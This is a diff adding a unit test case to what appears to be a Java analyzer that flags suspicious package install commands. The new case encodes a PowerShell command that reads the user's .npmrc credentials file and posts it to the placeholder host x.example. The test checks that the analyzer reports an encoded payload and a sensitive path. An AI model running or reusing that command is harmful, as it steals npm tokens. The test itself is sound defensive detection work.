@@ -56,6 +56,9 @@ class CommandFactsTest {
                 Arguments.of("sh file", "sh ./scripts/../setup.sh", List.of("runs-file setup.sh @7")),
                 Arguments.of("direct file", "./bin/setup.sh --quiet", List.of("runs-file bin/setup.sh @7")),
                 Arguments.of("wrapped", "cross-env NODE_ENV=production node lib/postinstall.js", List.of("runs-file lib/postinstall.js @7")),
+                Arguments.of("encoded powershell reading npmrc", "powershell -enc " + Base64.getEncoder().encodeToString(
+                        "Get-Content $env:USERPROFILE\\.npmrc | iwr -Method Post https://x.example".getBytes(StandardCharsets.UTF_16LE)),
+                        List.of("encoded-payload base64 @7", "sensitive-path npmrc @7/1")),
                 Arguments.of("cmd /c batch file", "cmd /c setup.bat", List.of("inline-code cmd @7", "runs-file setup.bat @7")),
                 Arguments.of("cmd /c dropped batch file", "cmd /c \"%TEMP%\\sdd.bat\"", List.of("runs-file %TEMP%/sdd.bat @7")),
                 Arguments.of("start /B program", "start /B x.exe -k --tls", List.of("runs-file x.exe @7")),
